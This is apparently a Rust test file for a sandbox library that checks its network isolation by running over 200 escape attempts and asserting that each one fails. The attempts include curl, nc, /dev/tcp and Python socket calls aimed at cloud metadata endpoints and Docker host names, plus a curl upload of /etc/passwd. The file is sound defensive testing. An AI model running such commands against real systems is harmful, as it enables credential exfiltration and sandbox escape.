//! NW-01: no program of a sandbox reaches anything outside of it.

mod support;

use std::net::{TcpListener, UdpSocket};
use std::path::Path;

use codepod::{Options, Sandbox};

/// Sockets of this host process.
fn sockets() -> usize {
    let open = std::fs::read_dir("/proc/self/fd").unwrap();
    let target =
        |entry: std::io::Result<std::fs::DirEntry>| std::fs::read_link(entry.ok()?.path()).ok();
    let is_socket = |path: &Path| path.to_string_lossy().starts_with("socket:");
    open.filter_map(target)
        .filter(|path| is_socket(path))
        .count()
}

/// What a host is called, by which a program might get out: the own loopback, and what lies beyond.
const HOSTS: [&str; 10] = [
    "127.0.0.1",
    "localhost",
    "0.0.0.0",
    "::1",
    "2130706433",
    "192.0.2.1",
    "169.254.169.254",
    "example.com",
    "metadata.google.internal",
    "host.docker.internal",
];

/// Attempts to say something to a port of this machine, or to somebody, for each program that has
/// anything to do with the network.
fn attempts(port: u16) -> Vec<String> {
    let python = |program: &str| format!("python3 -c \"{program}\"");
    let mut all: Vec<String> = HOSTS
        .iter()
        .flat_map(|host| {
            [
                format!("echo hello > /dev/tcp/{host}/{port}"),
                format!("echo hello > /dev/udp/{host}/{port}"),
                format!("exec 5<>/dev/tcp/{host}/{port}; echo hello >&5"),
                format!("curl -sS -m 2 http://{host}:{port}/"),
                format!("curl -sSk -m 2 https://{host}:{port}/"),
                format!("curl -sS -m 2 -x http://{host}:{port} http://example.com/"),
                format!("curl -sS -m 2 --socks5-hostname {host}:{port} http://example.com/"),
                format!("curl -sS -m 2 --connect-to ::{host}:{port} http://example.com/"),
                format!("curl -sS -m 2 -T /etc/passwd http://{host}:{port}/"),
                format!("wget -q -T 2 -t 1 -O - http://{host}:{port}/"),
                format!("nc -z -w 1 {host} {port}"),
                format!("nc -w 1 {host} {port} <<< hello"),
                python(&format!(
                    "import socket; socket.create_connection(('{host}', {port}), 2).send(b'hello')"
                )),
                python(&format!(
                    "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('{host}', {port}))"
                )),
                python(&format!(
                    "import urllib.request as r; r.urlopen('http://{host}:{port}/', timeout=2)"
                )),
                python(&format!(
                    "import http.client as c; c.HTTPConnection('{host}', {port}, timeout=2).request('GET', '/')"
                )),
                python(&format!(
                    "import requests; requests.get('http://{host}:{port}/', timeout=2)"
                )),
                python(&format!(
                    "import asyncio; asyncio.run(asyncio.wait_for(asyncio.open_connection('{host}', {port}), 2))"
                )),
                format!("git clone http://{host}:{port}/x"),
                format!("git clone git://{host}:{port}/x"),
            ]
        })
        .collect();
    // It asks several times, with pauses.
    let index = |host: &&str| format!("pip install --index-url http://{host}:{port}/simple x");
    all.extend(HOSTS[..5].iter().map(index));
    all.extend([
        python(&format!(
            "import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/host'); s.send(b'{port}')"
        )),
        python("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW)"),
        python("import socket; socket.getaddrinfo('example.com', 80)"),
        python("import socket; s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()"),
        format!("nc -u -w 1 127.0.0.1 {port} <<< hello"),
        format!("nc -u -w 1 192.0.2.1 {port} <<< hello"),
    ]);
    all
}

#[test]
fn nw_01_no_program_reaches_anything_outside() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let datagrams = UdpSocket::bind(("127.0.0.1", port)).unwrap();
    datagrams.set_nonblocking(true).unwrap();
    let sandbox = Sandbox::create(Options::default()).unwrap();
    let before = sockets();
    let attempts = attempts(port);
    assert!(attempts.len() >= 200, "{}", attempts.len());
    for script in attempts {
        let result = sandbox.run_blocking(&script).unwrap();
        // What a program makes of it is its own affair; the shell must say that it did not work. A
        // datagram to the sandbox's own loopback is sent, whether anybody receives it or not.
        let own = ["127.0.0.1", "localhost", "0.0.0.0", "2130706433"];
        let is_own = own.iter().any(|host| script.contains(host));
        let tools = ["curl", "wget", "nc -z", "git", "pip"];
        let says = script.contains("/dev/tcp")
            || script.contains("/dev/udp") && !is_own
            || tools.iter().any(|tool| script.starts_with(tool));
        assert!(!says || result.exit_code != 0, "{script}: {result:?}");
        assert_eq!(sockets(), before, "{script}: the host has another socket");
        assert!(listener.accept().is_err(), "{script}: somebody came");
        let received = datagrams.recv(&mut [0; 16]);
        assert!(received.is_err(), "{script}: something came");
    }
    // The same listener hears who does come.
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    assert!(support::within(std::time::Duration::from_secs(5), || {
        listener.accept().is_ok()
    }));
}

/// Programs inside that talk to each other: while they do, too, the host has no socket for that.
#[test]
fn nw_01_a_server_inside_and_its_clients_take_no_socket_of_the_host() {
    let sandbox = Sandbox::create(Options::default()).unwrap();
    let before = sockets();
    let script = "mkdir w; echo hello > w/f; (cd w && exec python3 -m http.server 8000 > /dev/null 2>&1) &
        until curl -sS localhost:8000/f 2> /dev/null; do sleep .1; done
        python3 -c \"import urllib.request as u; print(u.urlopen('http://localhost:8000/f').read())\"
        nc -lNU s < w/f & until nc -U s < /dev/null 2> /dev/null; do sleep .1; done
        kill %1";
    let most = std::thread::scope(|scope| {
        let running = scope.spawn(|| sandbox.run_blocking(script).unwrap());
        let mut most = before;
        while !running.is_finished() {
            most = most.max(sockets());
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
        let result = running.join().unwrap();
        let said = result.stdout_text();
        assert_eq!(
            said,
            "hello\nb'hello\\n'\nhello\n",
            "{}",
            result.stderr_text()
        );
        most
    });
    assert_eq!(most, before, "the host has another socket");
}
